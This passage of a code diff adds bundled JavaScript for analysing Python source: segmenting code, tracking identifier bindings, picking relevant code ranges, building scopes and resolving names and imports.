+    if (!source.startsWith(indent, pos) || j - pos < indent.length) return void 0;
+    let definition;
+    if (j - pos === indent.length) {
+      if (!(current && decoratorPending)) {
+        if (current) current.end = pos;
+        current = { start: pos, end: to, identifiers: /* @__PURE__ */ new Set(), bound: /* @__PURE__ */ new Set(), globals: /* @__PURE__ */ new Set(), prose: [] };
+        segments.push(current);
+        nestedDefinitionStart = -1;
+      }
+      decoratorPending = first === AT;
+      definition = decoratorPending ? void 0 : definedName(source, j);
+      if (definition) {
+        current.definition = definition.name;
+        current.definitionKey = identifierKey(definition.name);
+        if (definition.isClass) current.isClass = true;
+      }
+    } else if (!current) {
+      current = { start: pos, end: to, identifiers: /* @__PURE__ */ new Set(), bound: /* @__PURE__ */ new Set(), globals: /* @__PURE__ */ new Set(), prose: [] };
+      segments.push(current);
+    }
+    let bindsHere = true;
+    if (nestedDefinitionStart >= 0) {
+      const width = j - pos;
+      const deeper = width > nestedDefinitionIndent && sameText(source, nestedDefinitionStart, pos, nestedDefinitionIndent);
+      if (deeper) bindsHere = false;
+      else nestedDefinitionStart = -1;
+    }
+    if (nestedDefinitionStart < 0 && j - pos > indent.length && current.definition === void 0 && definedName(source, j)) {
+      nestedDefinitionStart = pos;
+      nestedDefinitionIndent = j - pos;
+    }
+    const next = scanLogicalLine(source, j, current, bindsHere);
+    if (next < 0) return void 0;
+    if (definition?.isClass) {
+      current.bodyStart = next;
+      current.headerIdentifiers = new Set(current.identifiers);
+    }
+    pos = next;
+  }
+  return segments;
+}
+function sameText(source, a, b, length) {
+  for (let k = 0; k < length; k++) if (source.charCodeAt(a + k) !== source.charCodeAt(b + k)) return false;
+  return true;
+}
+function hasBareCarriageReturn(source) {
+  for (let i2 = source.indexOf("\r"); i2 >= 0; i2 = source.indexOf("\r", i2 + 1)) {
+    if (source.charCodeAt(i2 + 1) !== NEWLINE) return true;
+  }
+  return false;
+}
+function definedName(source, at) {
+  let [word, next] = readWord(source, at);
+  if (word === "async") {
+    next = skipSpaces(source, next);
+    [word, next] = readWord(source, next);
+    if (word !== "def") return void 0;
+  }
+  if (word !== "def" && word !== "class") return void 0;
+  const [name2] = readWord(source, skipSpaces(source, next));
+  return name2 ? { name: name2, isClass: word === "class" } : void 0;
+}
+function skipSpaces(source, at) {
+  let i2 = at;
+  for (let c = source.charCodeAt(i2); c === SPACE || c === TAB || c === FORM_FEED; c = source.charCodeAt(++i2)) ;
+  return i2;
+}
+function readWord(source, at) {
+  if (!isIdentifierStart(source.charCodeAt(at))) return ["", at];
+  let end = at + 1;
+  while (end < source.length && isIdentifierPart(source.charCodeAt(end))) end++;
+  return [source.slice(at, end), end];
+}
+function isIdentifierStart(c) {
+  return c >= 97 && c <= 122 || c >= 65 && c <= 90 || c === 95 || c >= 128;
+}
+function isIdentifierPart(c) {
+  return isIdentifierStart(c) || c >= 48 && c <= 57;
+}
+function isDigit2(c) {
+  return c >= 48 && c <= 57;
+}
+function isOperandBase(source, end) {
+  const next = source.charCodeAt(skipSpaces(source, end));
+  return next === DOT || next === 91 || next === 40;
+}
+function isStringPrefix(source, start2, end) {
+  return /^(?:[rRbBuUfF]|[rR][bBfF]|[bBfF][rR])$/.test(source.slice(start2, end));
+}
+function isFormatPrefix(source, start2, end) {
+  for (let i2 = start2; i2 < end; i2++) if ((source.charCodeAt(i2) | 32) === 102) return true;
+  return false;
+}
+var KEYWORDS = "False None True and as assert async await break class continue def del elif else except finally for from global if import in is lambda nonlocal not or pass raise return try while with yield".split(" ");
+var KNOWN_WORDS = new Map([...KEYWORDS, "match", "case"].map((w) => [identifierKey(w), w]));
+var HARD_KEYWORDS = new Set(KEYWORDS);
+var COMPOUND_KEYWORDS = /* @__PURE__ */ new Set(["if", "elif", "else", "while", "for", "try", "except", "finally", "with", "def", "class", "async", "match", "case"]);
+var BINDS_NEXT = /* @__PURE__ */ new Set(["as", "def", "class"]);
+var IGNORED = new class extends Set {
+  add() {
+    return this;
+  }
+}();
+var EQUALS = 61;
+var COLON = 58;
+var SEMICOLON = 59;
+var OPERATOR_BEFORE_EQUALS = new Set("=!<>+-*/%&|^@:".split("").map((ch) => ch.charCodeAt(0)));
+function scanLogicalLine(source, at, segment, bindsHere) {
+  const ids = segment.identifiers;
+  const bound = bindsHere ? segment.bound : IGNORED;
+  const n = source.length;
+  let depth = 0;
+  let afterDot = false;
+  let statementStart = true;
+  let bindsAll = false;
+  let fromModule = false;
+  let declaresGlobals = false;
+  let compound = false;
+  let pending = [];
+  let previous = -1;
+  let previousWord;
+  let forTarget = false;
+  const brackets = [];
+  let operandBrackets = 0;
+  let afterOperand = false;
+  let i2 = at;
+  while (i2 < n) {
+    const c = source.charCodeAt(i2);
+    if (c === NEWLINE) {
+      i2++;
+      if (depth === 0) return i2;
+      continue;
+    }
+    if (c === SPACE || c === TAB || c === CR || c === FORM_FEED) {
+      i2++;
+      continue;
+    }
+    if (c === HASH) {
+      const nl = source.indexOf("\n", i2);
+      segment.prose.push(i2, nl < 0 ? n : nl);
+      i2 = nl < 0 ? n : nl;
+      continue;
+    }
+    if (c === BACKSLASH) {
+      i2 += source.charCodeAt(i2 + 1) === CR ? 3 : 2;
+      continue;
+    }
+    if (c === SINGLE_QUOTE || c === DOUBLE_QUOTE) {
+      i2 = scanString(source, i2, false, segment);
+      if (i2 < 0) return -1;
+      afterDot = false;
+      afterOperand = true;
+      continue;
+    }
+    if (isIdentifierStart(c)) {
+      let h = Math.imul(2166136261 ^ c, 16777619);
+      let end = i2 + 1;
+      for (let d = source.charCodeAt(end); isIdentifierPart(d); d = source.charCodeAt(++end)) h = Math.imul(h ^ d, 16777619);
+      const key = h & 1073741823;
+      const q = source.charCodeAt(end);
+      if ((q === SINGLE_QUOTE || q === DOUBLE_QUOTE) && end - i2 <= 2 && isStringPrefix(source, i2, end)) {
+        i2 = scanString(source, end, isFormatPrefix(source, i2, end), segment);
+        if (i2 < 0) return -1;
+        afterDot = false;
+        afterOperand = true;
+        continue;
+      }
+      const start2 = i2;
+      i2 = end;
+      afterOperand = true;
+      if (afterDot) {
+        afterDot = false;
+        previous = -1;
+        previousWord = void 0;
+        continue;
+      }
+      const known = KNOWN_WORDS.get(key);
+      const word = known !== void 0 && known.length === end - start2 && source.startsWith(known, start2) ? known : void 0;
+      const keyword = word !== void 0 && HARD_KEYWORDS.has(word);
+      ids.add(key);
+      if (statementStart) {
+        statementStart = false;
+        bindsAll = word === "import" || word === "from" || word === "global";
+        fromModule = word === "from";
+        declaresGlobals = word === "global";
+        compound = word !== void 0 && COMPOUND_KEYWORDS.has(word);
+      }
+      if (word === "import") fromModule = false;
+      if (keyword) {
+        afterOperand = false;
+      } else if (bindsAll) {
+        if (!fromModule) bound.add(key);
+        if (declaresGlobals) segment.globals.add(key);
+      } else if (previousWord !== void 0 && BINDS_NEXT.has(previousWord)) {
+        bound.add(key);
+      } else if (operandBrackets === 0 && !isOperandBase(source, end)) {
+        if (forTarget) bound.add(key);
+        pending.push(key);
+      }
+      if (word === "for") forTarget = true;
+      else if (word === "in") forTarget = false;
+      previous = keyword ? -1 : key;
+      previousWord = word;
+      continue;
+    }
+    if (isDigit2(c)) {
+      let end = i2 + 1;
+      while (end < n && (isIdentifierPart(source.charCodeAt(end)) || source.charCodeAt(end) === DOT)) end++;
+      i2 = end;
+      afterDot = false;
+      afterOperand = true;
+      continue;
+    }
+    const wasAfterOperand = afterOperand;
+    afterOperand = false;
+    if (c === 40 || c === 91 || c === 123) {
+      depth++;
+      const holdsNoTarget = c === 123 || wasAfterOperand;
+      brackets.push(holdsNoTarget);
+      if (holdsNoTarget) operandBrackets++;
+    } else if ((c === 41 || c === 93 || c === 125) && depth > 0) {
+      depth--;
+      if (brackets.pop()) operandBrackets--;
+      afterOperand = true;
+    } else if (c === COLON && source.charCodeAt(i2 + 1) === EQUALS) {
+      if (previous >= 0) bound.add(previous);
+    } else if (depth === 0) {
+      if (c === SEMICOLON || c === COLON && compound) {
+        statementStart = true;
+        bindsAll = fromModule = declaresGlobals = compound = forTarget = false;
+        pending = [];
+        previous = -1;
+        previousWord = void 0;
+      } else if (c === EQUALS && source.charCodeAt(i2 + 1) !== EQUALS && !OPERATOR_BEFORE_EQUALS.has(source.charCodeAt(i2 - 1))) {
+        for (const target of pending) bound.add(target);
+        pending = [];
+      }
+    }
+    afterDot = c === DOT;
+    i2++;
+  }
+  return n;
+}
+function scanString(source, at, format, segment) {
+  const n = source.length;
+  const q = source.charCodeAt(at);
+  const triple = source.charCodeAt(at + 1) === q && source.charCodeAt(at + 2) === q;
+  let prose = false;
+  let i2 = at + (triple ? 3 : 1);
+  while (i2 < n) {
+    const c = source.charCodeAt(i2);
+    if (c === BACKSLASH) {
+      prose = true;
+      i2 += source.charCodeAt(i2 + 1) === CR ? 3 : 2;
+      continue;
+    }
+    if (c === q) {
+      if (triple && !(source.charCodeAt(i2 + 1) === q && source.charCodeAt(i2 + 2) === q)) {
+        prose = true;
+        i2++;
+        continue;
+      }
+      const end = i2 + (triple ? 3 : 1);
+      if (prose && !format) segment.prose.push(at, end);
+      return end;
+    }
+    if (c === NEWLINE && !triple) return -1;
+    if (isIdentifierStart(c)) {
+      let end = i2 + 1;
+      while (end < n && isIdentifierPart(source.charCodeAt(end))) end++;
+      if (format) segment.identifiers.add(hashRange(source, i2, end));
+      i2 = end;
+      continue;
+    }
+    if (!isDigit2(c) && c !== DOT) prose = true;
+    i2++;
+  }
+  return -1;
+}
+
+// src/languages/python/regions.ts
+var MIN_SKIPPED_SHARE = 0.1;
+function relevantRanges(source, segments, allAnchors) {
+  const anchors = anchorsInCode(segments, allAnchors);
+  if (anchors.length === 0) return [];
+  const count = segments.length;
+  const anchored = anchoredSegments(segments, anchors);
+  for (let k = 0; k < count; k++) {
+    if (anchored[k] && segments[k].definition === void 0 && isStarImport(source, segments[k])) return void 0;
+  }
+  const relevant = new Array(count).fill(false);
+  const expanded = new Array(count).fill(false);
+  const headerRelevant = new Array(count).fill(false);
+  const boundNames = /* @__PURE__ */ new Set();
+  const mentionedByRelevant = /* @__PURE__ */ new Set();
+  const mentionedAtModuleLevel = /* @__PURE__ */ new Set();
+  for (const s of segments) if (s.definition === void 0) addAll(mentionedAtModuleLevel, s.identifiers);
+  for (let changed = true; changed; ) {
+    changed = false;
+    for (let k = 0; k < count; k++) {
+      const s = segments[k];
+      if (!relevant[k]) relevant[k] = anchored[k] || intersects(s.identifiers, boundNames);
+      if (relevant[k] && s.isClass && !headerRelevant[k] && classHeaderIsRelevant(s, anchors, boundNames)) {
+        headerRelevant[k] = true;
+        boundNames.add(s.definitionKey);
+        changed = true;
+      }
+      if (!relevant[k] || expanded[k]) continue;
+      expanded[k] = true;
+      changed = true;
+      if (s.definition === void 0) addAll(boundNames, s.bound);
+      else {
+        addAll(boundNames, s.globals);
+        addAll(mentionedByRelevant, s.identifiers);
+      }
+    }
+  }
+  const ranges = [];
+  const keep = (start2, end) => {
+    const last = ranges[ranges.length - 1];
+    if (last && last.end === start2) last.end = end;
+    else ranges.push({ start: start2, end });
+  };
+  segments.forEach((s, k) => {
+    const name2 = s.definitionKey;
+    if (name2 === void 0) return keep(s.start, s.end);
+    if (!relevant[k]) {
+      if (mentionedAtModuleLevel.has(name2) || mentionedByRelevant.has(name2) || s.globals.size > 0) keep(s.start, s.end);
+      return;
+    }
+    const members = s.isClass && !headerRelevant[k] ? splitClassBody(source, s) : void 0;
+    if (!members) return keep(s.start, s.end);
+    keep(s.start, s.bodyStart);
+    const memberAnchored = anchoredSegments(members, anchors);
+    const namedInClassBody = /* @__PURE__ */ new Set();
+    for (const m of members) if (m.definition === void 0) addAll(namedInClassBody, m.identifiers);
+    members.forEach((m, i2) => {
+      const needed = m.definitionKey === void 0 || memberAnchored[i2] || intersects(m.identifiers, boundNames) || namedInClassBody.has(m.definitionKey) || m.globals.size > 0;
+      if (needed) keep(m.start, m.end);
+    });
+  });
+  const kept = ranges.reduce((n, r) => n + r.end - r.start, 0);
+  if (source.length - kept < MIN_SKIPPED_SHARE * source.length) return void 0;
+  return ranges;
+}
+function anchorsInCode(segments, anchors) {
+  const out2 = [];
+  let k = 0;
+  let p = 0;
+  for (const at of anchors) {
+    while (k < segments.length && segments[k].end <= at) {
+      k++;
+      p = 0;
+    }
+    if (k === segments.length) break;
+    const s = segments[k];
+    if (at < s.start) continue;
+    while (p < s.prose.length && s.prose[p + 1] <= at) p += 2;
+    if (p < s.prose.length && s.prose[p] <= at) continue;
+    out2.push(at);
+  }
+  return out2;
+}
+function anchoredSegments(segments, anchors) {
+  const marked = new Array(segments.length).fill(false);
+  let k = 0;
+  for (const at of anchors) {
+    while (k < segments.length && segments[k].end <= at) k++;
+    if (k === segments.length) break;
+    if (segments[k].start <= at) marked[k] = true;
+  }
+  return marked;
+}
+function classHeaderIsRelevant(s, anchors, boundNames) {
+  if (s.bodyStart === void 0) return true;
+  if (s.headerIdentifiers && intersects(s.headerIdentifiers, boundNames)) return true;
+  const first = lowerBound(anchors, s.start);
+  return first < anchors.length && anchors[first] < s.bodyStart;
+}
+function lowerBound(sorted, value) {
+  let lo = 0;
+  let hi = sorted.length;
+  while (lo < hi) {
+    const mid = lo + hi >> 1;
+    if (sorted[mid] < value) lo = mid + 1;
+    else hi = mid;
+  }
+  return lo;
+}
+var IMPORT2 = identifierKey("import");
+function isStarImport(source, s) {
+  return s.identifiers.has(IMPORT2) && /\bimport\s*\(?\s*\*/.test(source.slice(s.start, s.end));
+}
+function intersects(a, b) {
+  if (a.size > b.size) [a, b] = [b, a];
+  for (const x of a) if (b.has(x)) return true;
+  return false;
+}
+function addAll(into, from) {
+  for (const x of from) into.add(x);
+}
+
+// src/languages/python/token-set.ts
+var TokenSet = class {
+  constructor(tokens) {
+    this.tokens = tokens;
+    for (const token of tokens) {
+      if (token.length < 4 || !/^[\x00-\x7f]*$/.test(token)) {
+        this.plain.push(token);
+        continue;
+      }
+      const prefix = token.charCodeAt(0) << 24 | token.charCodeAt(1) << 16 | token.charCodeAt(2) << 8 | token.charCodeAt(3);
+      const list = this.byPrefix.get(prefix);
+      if (list) list.push(token);
+      else this.byPrefix.set(prefix, [token]);
+      this.maybePrefix[slot(prefix)] = 1;
+    }
+  }
+  tokens;
+  byPrefix = /* @__PURE__ */ new Map();
+  maybePrefix = new Uint8Array(1 << 16);
+  plain = [];
+  /** Start offsets (UTF-16) of every occurrence of every token in `text`, ascending. */
+  offsetsIn(text) {
+    const out2 = [];
+    for (const p of this.plain) for (let at = text.indexOf(p); at >= 0; at = text.indexOf(p, at + p.length)) out2.push(at);
+    if (this.byPrefix.size > 0) {
+      const maybe2 = this.maybePrefix;
+      let window2 = 0;
+      for (let i2 = 0; i2 < text.length; i2++) {
+        window2 = window2 << 8 | text.charCodeAt(i2) & 255;
+        if (i2 >= 3 && maybe2[slot(window2)] === 1) {
+          const list = this.byPrefix.get(window2);
+          if (list) {
+            for (const t of list) if (text.startsWith(t, i2 - 3)) out2.push(i2 - 3);
+          }
+        }
+      }
+    }
+    return this.plain.length ? out2.sort((a, b) => a - b) : out2;
+  }
+};
+function slot(prefix) {
+  return Math.imul(prefix, 2654435761) >>> 16;
+}
+
+// src/languages/python/semantic/builtins.ts
+var PYTHON_BUILTINS2 = /* @__PURE__ */ new Set([
+  "__build_class__",
+  "__import__",
+  "abs",
+  "aiter",
+  "all",
+  "anext",
+  "any",
+  "ascii",
+  "bin",
+  "bool",
+  "breakpoint",
+  "bytearray",
+  "bytes",
+  "callable",
+  "chr",
+  "classmethod",
+  "compile",
+  "complex",
+  "copyright",
+  "credits",
+  "delattr",
+  "dict",
+  "dir",
+  "divmod",
+  "enumerate",
+  "eval",
+  "exec",
+  "exit",
+  "filter",
+  "float",
+  "format",
+  "frozenset",
+  "getattr",
+  "globals",
+  "hasattr",
+  "hash",
+  "help",
+  "hex",
+  "id",
+  "input",
+  "int",
+  "isinstance",
+  "issubclass",
+  "iter",
+  "len",
+  "license",
+  "list",
+  "locals",
+  "map",
+  "max",
+  "memoryview",
+  "min",
+  "next",
+  "object",
+  "oct",
+  "open",
+  "ord",
+  "pow",
+  "print",
+  "property",
+  "quit",
+  "range",
+  "repr",
+  "reversed",
+  "round",
+  "set",
+  "setattr",
+  "slice",
+  "sorted",
+  "staticmethod",
+  "str",
+  "sum",
+  "super",
+  "tuple",
+  "type",
+  "vars",
+  "zip"
+]);
+
+// src/languages/python/semantic/scopes.ts
+var COMPREHENSIONS = /* @__PURE__ */ new Set([
+  "list_comprehension",
+  "set_comprehension",
+  "dictionary_comprehension",
+  "generator_expression"
+]);
+function buildScopes(tree, moduleName) {
+  const module2 = newScope("module", tree.root, null);
+  const calls = [];
+  const subscripts = [];
+  const text = (n) => tree.source.slice(n.start, n.end);
+  const stack = [{ node: tree.root, scope: module2 }];
+  const bind2 = (scope, name2, kind, site, position, extra = {}) => {
+    const target = scope.globals.has(name2) ? module2 : scope;
+    let list = target.bindings.get(name2);
+    if (!list) target.bindings.set(name2, list = []);
+    list.push({ name: name2, kind, site, position, scope: target, ...extra });
+  };
+  const bindTarget = (scope, target, value, kind, position) => {
+    const work = [{ t: target, v: value }];
+    while (work.length) {
+      const { t, v } = work.pop();
+      switch (t.type) {
+        case "identifier":
+          bind2(scope, text(t), v ? kind : "opaque", t, position(t), v ? { value: v } : {});
+          break;
+        case "pattern_list":
+        case "tuple_pattern":
+        case "list_pattern":
+        case "expression_list":
+        case "tuple":
+        case "list": {
+          const values = v && ["expression_list", "tuple", "list", "pattern_list"].includes(v.type) ? v.children : [];
+          const sameShape = values.length === t.children.length;
+          t.children.forEach((c, i2) => work.push({ t: c, v: sameShape ? values[i2] : void 0 }));
+          break;
+        }
+        case "list_splat_pattern":
+        case "parenthesized_expression":
+        case "parenthesized_list_splat":
+          for (const c of t.children) work.push({ t: c, v: void 0 });
+          break;
+        case "as_pattern_target":
+          for (const c of t.children) work.push({ t: c, v });
+          break;
+        default:
+          stack.push({ node: t, scope });
+      }
+    }
+  };
+  const bindParameters = (params, inner, outer) => {
+    if (!params) return;
+    for (const p of params.children) {
+      const name2 = p.type === "identifier" ? p : childByField(p, "name") ?? p.children.find((c) => c.type === "identifier");
+      if (name2 && name2.type === "identifier") bind2(inner, text(name2), "opaque", name2, name2.end);
+      for (const f of ["value", "type"]) {
+        const v = childByField(p, f);
+        if (v) stack.push({ node: v, scope: outer });
+      }
+    }
+  };
+  while (stack.length) {
+    const { node, scope } = stack.pop();
+    switch (node.type) {
+      case "function_definition": {
+        const name2 = childByField(node, "name");
+        if (name2) bind2(scope, text(name2), "function", name2, node.end);
+        const inner = newScope("function", node, scope);
+        bindParameters(childByField(node, "parameters"), inner, scope);
+        for (const c of node.children) {
+          if (c.field === "body") stack.push({ node: c, scope: inner });
+          else if (c.field === "return_type" || c.type === "decorator") stack.push({ node: c, scope });
+        }
+        continue;
+      }
+      case "lambda": {
+        const inner = newScope("lambda", node, scope);
+        bindParameters(childByField(node, "parameters"), inner, scope);
+        const body2 = childByField(node, "body");
+        if (body2) stack.push({ node: body2, scope: inner });
+        continue;
+      }
+      case "class_definition": {
+        const name2 = childByField(node, "name");
+        if (name2) bind2(scope, text(name2), "class", name2, node.end, { classDef: node });
+        const inner = newScope("class", node, scope);
+        for (const c of node.children) {
+          if (c.field === "body") stack.push({ node: c, scope: inner });
+          else if (c.field !== "name") stack.push({ node: c, scope });
+        }
+        continue;
+      }
+      case "decorated_definition":
+        break;
+      case "import_statement":
+        for (const c of node.children) bindImport(c, "", scope, node.end);
+        continue;
+      case "import_from_statement": {
+        const moduleNode = childByField(node, "module_name");
+        const from = moduleNode ? importedModuleName(moduleNode, moduleName, text) : "";
+        for (const c of node.children) {
+          if (c.type === "wildcard_import") scope.starImports.push({ module: from, site: c });
+          else if (c.field === "name") bindImport(c, from, scope, node.end);
+        }
+        continue;
+      }
+      case "future_import_statement":
+        continue;
+      case "global_statement":
+        for (const c of node.children) if (c.type === "identifier") scope.globals.add(text(c));
+        continue;
+      case "nonlocal_statement":
+        for (const c of node.children) if (c.type === "identifier") scope.nonlocals.add(text(c));
+        continue;
+      case "assignment": {
+        let right = childByField(node, "right");
+        let value = right;
+        while (value?.type === "assignment") value = childByField(value, "right");
+        const left = childByField(node, "left");
+        const afterStatement = () => node.end;
+        if (left) bindTarget(scope, left, value, "assignment", afterStatement);
+        if (right?.type === "assignment") {
+          const innerLeft = childByField(right, "left");
+          if (innerLeft) bindTarget(scope, innerLeft, value, "assignment", afterStatement);
+          right = value;
+        }
+        if (right) stack.push({ node: right, scope });
+        const type = childByField(node, "type");
+        if (type) stack.push({ node: type, scope });
+        continue;
+      }
+      case "augmented_assignment": {
+        const left = childByField(node, "left");
+        if (left) bindTarget(scope, left, void 0, "opaque", () => node.end);
+        const right = childByField(node, "right");
+        if (right) stack.push({ node: right, scope });
+        continue;
+      }
+      case "named_expression": {
+        const name2 = childByField(node, "name");
+        const value = childByField(node, "value");
+        let target = scope;
+        while (target.kind === "comprehension" && target.parent) target = target.parent;
+        if (name2) bind2(target, text(name2), value ? "assignment" : "opaque", name2, node.end, value ? { value } : {});
+        if (value) stack.push({ node: value, scope });
+        continue;
+      }
+      case "for_statement":
+      case "for_in_clause": {
+        const left = childByField(node, "left");
+        if (left) bindTarget(scope, left, void 0, "opaque", (site) => site.end);
+        for (const c of node.children) if (c !== left) stack.push({ node: c, scope });
+        continue;
+      }
+      case "as_pattern": {
+        const alias = childByField(node, "alias");
+        const entered = node.parent?.type === "with_item" ? node.children.find((c) => c !== alias) : void 0;
+        if (alias) bindTarget(scope, alias, entered, "assignment", (site) => site.end);
+        for (const c of node.children) if (c !== alias) stack.push({ node: c, scope });
+        continue;
+      }
+      case "call":
+        calls.push({ node, scope });
+        break;
+      case "subscript":
+        subscripts.push({ node, scope });
+        break;
+      default:
+        if (COMPREHENSIONS.has(node.type)) {
+          const inner = newScope("comprehension", node, scope);
+          for (const c of node.children) stack.push({ node: c, scope: inner });
+          continue;
+        }
+    }
+    for (let i2 = node.children.length - 1; i2 >= 0; i2--) stack.push({ node: node.children[i2], scope });
+  }
+  return { module: module2, calls, subscripts };
+  function bindImport(item, from, scope, position) {
+    if (item.type === "aliased_import") {
+      const name2 = childByField(item, "name");
+      const alias = childByField(item, "alias");
+      if (!name2 || !alias) return;
+      const qualifiedName = from ? `${from}.${text(name2)}` : text(name2);
+      bind2(scope, text(alias), "import", alias, position, { qualifiedName });
+    } else if (item.type === "dotted_name") {
+      const dotted = text(item).replace(/\s+/g, "");
+      if (from) {
+        bind2(scope, dotted, "import", item, position, { qualifiedName: `${from}.${dotted}` });
+      } else {
+        const top = dotted.split(".")[0];
+        bind2(scope, top, "import", item, position, { qualifiedName: top });
+      }
+    }
+  }
+}
+function newScope(kind, node, parent) {
+  return { kind, node, parent, bindings: /* @__PURE__ */ new Map(), globals: /* @__PURE__ */ new Set(), nonlocals: /* @__PURE__ */ new Set(), starImports: [] };
+}
+function importedModuleName(node, moduleName, text) {
+  if (node.type !== "relative_import") return text(node).replace(/\s+/g, "");
+  const prefix = node.children.find((c) => c.type === "import_prefix");
+  const rest = node.children.find((c) => c.type === "dotted_name");
+  const level = prefix ? text(prefix).length : 0;
+  const restText = rest ? text(rest).replace(/\s+/g, "") : "";
+  const parts2 = moduleName ? moduleName.split(".") : [];
+  if (!moduleName || level > parts2.length) return ".".repeat(level) + restText;
+  const base = parts2.slice(0, parts2.length - level);
+  if (restText) base.push(restText);
+  return base.join(".");
+}
+
+// src/languages/python/semantic/model.ts
+var MAX_DEPTH2 = 32;
+var LOCAL = "<local>.";
+var SemanticModel = class {
+  constructor(tree, moduleName) {
+    this.tree = tree;
+    const index = buildScopes(tree, moduleName);
+    this.calls = index.calls;
+    this.subscripts = index.subscripts;
+    this.module = index.module;
+  }
+  tree;
+  calls;
+  subscripts;
+  module;
+  bindingCache = /* @__PURE__ */ new Map();
+  inProgress = /* @__PURE__ */ new Set();
+  text(node) {
+    return this.tree.source.slice(node.start, node.end);
+  }
+  /** All qualified names `expr` may denote in `scope`; empty when unknown. */
+  resolve(expr, scope, depth = 0) {
+    if (depth > MAX_DEPTH2) return [];
+    const node = unwrapParentheses(expr);
+    switch (node.type) {
+      case "identifier":
+        return this.resolveName(this.text(node), scope, node, depth);
+      case "attribute":
+        return this.resolveAttribute(node, scope, depth);
+      case "call":
+        return this.resolveCallResult(node, scope, depth);
+      case "subscript":
+        return this.resolveSubscript(node, scope, depth);
+      case "conditional_expression": {
+        const [a, , b] = node.children;
+        return [...a ? this.resolve(a, scope, depth + 1) : [], ...b ? this.resolve(b, scope, depth + 1) : []];
+      }
+      case "boolean_operator": {
+        const left = childByField(node, "left");
+        const right = childByField(node, "right");
+        return [...left ? this.resolve(left, scope, depth + 1) : [], ...right ? this.resolve(right, scope, depth + 1) : []];
+      }
+      case "named_expression": {
+        const value = childByField(node, "value");
+        return value ? this.resolve(value, scope, depth + 1) : [];
+      }
+      default:
+        return [];
+    }
+  }
+  /** The string an expression always evaluates to, when it is built from literals (and names bound to them). */
+  constantString(expr, scope, depth = 0) {
+    if (depth > MAX_DEPTH2) return void 0;
+    const node = unwrapParentheses(expr);
+    switch (node.type) {
+      case "string":
+        return this.stringLiteral(node);
+      case "concatenated_string": {
+        let out2 = "";
+        for (const part of node.children) {
+          const s = this.stringLiteral(part);
+          if (s === void 0) return void 0;
+          out2 += s;
+        }
+        return out2;
+      }
+      case "binary_operator": {
+        const left = childByField(node, "left");
+        const right = childByField(node, "right");
+        if (!left || !right || this.tree.source.slice(left.end, right.start).trim() !== "+") return void 0;
+        const l = this.constantString(left, scope, depth + 1);
+        const r = l === void 0 ? void 0 : this.constantString(right, scope, depth + 1);
+        return l === void 0 || r === void 0 ? void 0 : l + r;
+      }
+      case "identifier": {
+        const bindings = this.lookup(this.text(node), scope, node);
+        if (!bindings || bindings.length !== 1) return void 0;
+        const [b] = bindings;
+        return b.kind === "assignment" && b.value ? this.constantString(b.value, b.scope, depth + 1) : void 0;
+      }
+      default:
+        return void 0;
+    }
+  }
+  /** Bindings that `name` may refer to at `use` (LEGB, class bodies invisible to nested scopes). */
+  lookup(name2, scope, use) {
+    let s = scope;
+    let sameScope = true;
+    while (s) {
+      if (!sameScope && s.kind === "class") {
+        s = s.parent;
+        continue;
+      }
+      if (s.globals.has(name2) && s !== this.module) {
+        s = this.module;
+        sameScope = false;
+        continue;
+      }
+      const bindings = s.bindings.get(name2);
+      if (bindings?.length) return sameScope ? reachingBindings(bindings, use, s) : bindings;
+      sameScope = false;
+      s = s.parent;
+    }
+    return void 0;
+  }
+  /** Base classes of a class defined in this file, resolved transitively through other local classes. */
+  classAncestors(classDef, scope) {
+    const out2 = [];
+    const seen = /* @__PURE__ */ new Set();
+    const work = [{ def: classDef, scope }];
+    while (work.length && seen.size < MAX_DEPTH2) {
+      const { def, scope: defScope } = work.pop();
+      if (seen.has(def)) continue;
+      seen.add(def);
+      const bases = childByField(def, "superclasses");
+      if (!bases) continue;
+      for (const base of bases.children) {
+        if (base.type === "keyword_argument") continue;
+        for (const r of this.resolve(base, defScope)) {
+          out2.push(r);
+          if (r.localClass) work.push({ def: r.localClass, scope: this.scopeOfDefinition(r.localClass) ?? defScope });
+        }
+      }
+    }
+    return out2;
+  }
+  scopeOfDefinition(def) {
+    const find = (scope) => {
+      for (const list of scope.bindings.values()) for (const b of list) if (b.classDef === def) return scope;
+      return void 0;
+    };
+    return find(this.module) ?? this.calls.map((c) => c.scope).find((s) => find(s));
+  }
+  resolveName(name2, scope, use, depth) {
+    const bindings = this.lookup(name2, scope, use);
+    if (!bindings) {
+      const fromStar = this.module.starImports.map((s) => ({ name: canonicalName(`${s.module}.${name2}`) }));
+      if (PYTHON_BUILTINS2.has(name2)) fromStar.push({ name: `builtins.${name2}` });
+      return fromStar;
+    }
+    const out2 = [];
+    for (const b of bindings) out2.push(...this.resolveBinding(b, depth));
+    return out2;
+  }
+  resolveBinding(b, depth) {
+    switch (b.kind) {
+      case "import":
+        return [{ name: canonicalName(b.qualifiedName) }];
+      case "function":
+        return [{ name: LOCAL + b.name }];
+      case "class":
+        return [{ name: LOCAL + b.name, localClass: b.classDef }];
+      case "opaque":
+        return [];
+      case "assignment": {
+        const cached3 = this.bindingCache.get(b);
+        if (cached3) return cached3;
+        if (this.inProgress.has(b) || !b.value) return [];
+        this.inProgress.add(b);
+        const result2 = this.resolve(b.value, b.scope, depth + 1);
+        this.inProgress.delete(b);
+        this.bindingCache.set(b, result2);
+        return result2;
+      }
+    }
+  }
+  resolveAttribute(node, scope, depth) {
+    const attributes = [];
+    let base = node;
+    while (base.type === "attribute") {
+      const attr = childByField(base, "attribute");
+      const object = childByField(base, "object");
+      if (!attr || !object) return [];
+      attributes.push(this.text(attr));
+      base = unwrapParentheses(object);
+    }
+    attributes.reverse();
+    const suffix = attributes.join(".");
+    return this.resolve(base, scope, depth + 1).map((r) => ({
+      name: canonicalName(`${r.name}.${suffix}`),
+      ...attributes.length === 1 && r.constructedBy ? { constructedBy: r.constructedBy } : {}
+    }));
+  }
+  resolveCallResult(node, scope, depth) {
+    const callee = childByField(node, "function");
+    if (!callee) return [];
+    const args2 = childByField(node, "arguments");
+    const positional = args2 ? args2.children.filter((c) => c.type !== "keyword_argument" && c.type !== "comment") : [];
+    const keyword = (name2) => args2?.children.find((c) => c.type === "keyword_argument" && this.text(childByField(c, "name") ?? c) === name2);
+    const out2 = [];
+    for (const c of this.resolve(callee, scope, depth + 1)) {
+      switch (c.name) {
+        case "importlib.import_module":
+        case "importlib.__import__":
+        case "builtins.__import__": {
+          const moduleArg2 = positional[0] ?? valueOf(keyword("name"));
+          const moduleName = moduleArg2 && this.constantString(moduleArg2, scope, depth + 1);
